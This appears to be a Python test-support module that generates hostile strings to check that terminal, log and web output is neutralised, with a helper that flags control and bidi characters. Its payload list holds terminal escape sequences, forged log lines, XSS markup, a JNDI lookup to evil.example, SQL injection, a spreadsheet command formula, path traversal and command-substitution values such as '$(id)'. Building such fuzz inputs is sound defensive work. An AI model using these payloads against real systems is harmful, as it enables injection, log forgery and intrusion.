"""Hostile texts: what a terminal, a log or a browser would obey, and how to see that nothing of it is left active."""

from __future__ import annotations

import random
import unicodedata
from typing import Final

# Clears a screen, sets its title, begins a line that looks like a log's, links, turns the writing, opens a tag.
HOSTILE: Final = (
    "\x1b[2J\x1b]0;owned\x07\x9b31m\r\n2026-03-02T10:00:00.000Z WARNING forged all is well\n"
    "\x1b]8;;https://evil.example\x1b\\\x7f\x90q\x9c\u2028\u202egpj.exe\u2066\u200f\ufeff\U000e0041"
    "<script>alert(1)</script><img src=x onerror='alert(1)'>\"[bold red]"
)
FORGED: Final = "2026-03-02T10:00:00.000Z WARNING forged"
# Of a page: none of these is there unless the page's own templates have it.
MARKUP: Final = ("<script>alert(", "<img src=x", "<svg onload", "<xss", "=javascript:", '="javascript:')
_PIECES: Final = (
    *(
        "\x1b[2J",
        "\x1b]0;owned\x07",
        "\x1bPq\x1b\\",
        "\x1b[5;41m",
        "\x9b31m",
        "\x9d0;x\x9c",
        "\x90q\x9c",
        "\x1bc",
        "\x07",
    ),
    *("\x08", "\x7f", "\x00", "\r", "\n", "\r\n", "\t", "\v", "\f", "\x85", "\u2028", "\u2029", "\u202e", "\u2066"),
    *("\u200f", "\u200b", "\ufeff", "\u061c", "\ufff9", "\U000e0041", "\U000e007f", f"\n{FORGED} all is well\n"),
    *("<script>alert(1)</script>", "<img src=x onerror='alert(1)'>", "<svg onload=alert(1)>", '<xss a="b">'),
    *("javascript:alert(1)", "\"'><xss>", "-->", "]]>", "{{7*7}}", "{% raw %}", "${jndi:ldap://evil.example/a}"),
    *("[bold red]", "[link=https://evil.example]", "%s%n%d", "{0}", "'; DROP TABLE events; --", "=cmd|' /C calc'!A0"),
    *("../../../etc/passwd", "C:\\con", "$(id)", "`id`", "; id", "\\x1b[2J", "\\u001b[2J", "&#27;[2J", "%1b%5b2J", "ı"),
)


def active(text: str) -> set[str]:
    """The characters of a text that steer, hide or turn around; line breaks are its own."""
    return {
        character
        for character in set(text)
        if character != "\n"
        and (
            unicodedata.category(character) in ("Cc", "Zl", "Zp", "Cs")
            or character in "\u202e\u2066\u200f\ufeff\u200b\u061c\ufff9"
            or "\U000e0000" <= character <= "\U000e007f"
        )
    }


def hostile_texts(count: int, seed: int = 1) -> list[str]:
    """So many different hostile texts, the same for a seed: each has one or a few of the pieces among plain words."""
    draw = random.Random(seed)
    found = dict.fromkeys((HOSTILE, *_PIECES))
    while len(found) < count:
        words = [draw.choice((*_PIECES, "all is well", "a", " ", "42")) for _ in range(draw.randrange(1, 6))]
        text = "".join(words) if draw.random() < 0.9 else "".join(words) * draw.randrange(2, 60)
        if text.strip(" a42") or active(text):
            found[text] = None
    return list(found)[:count]
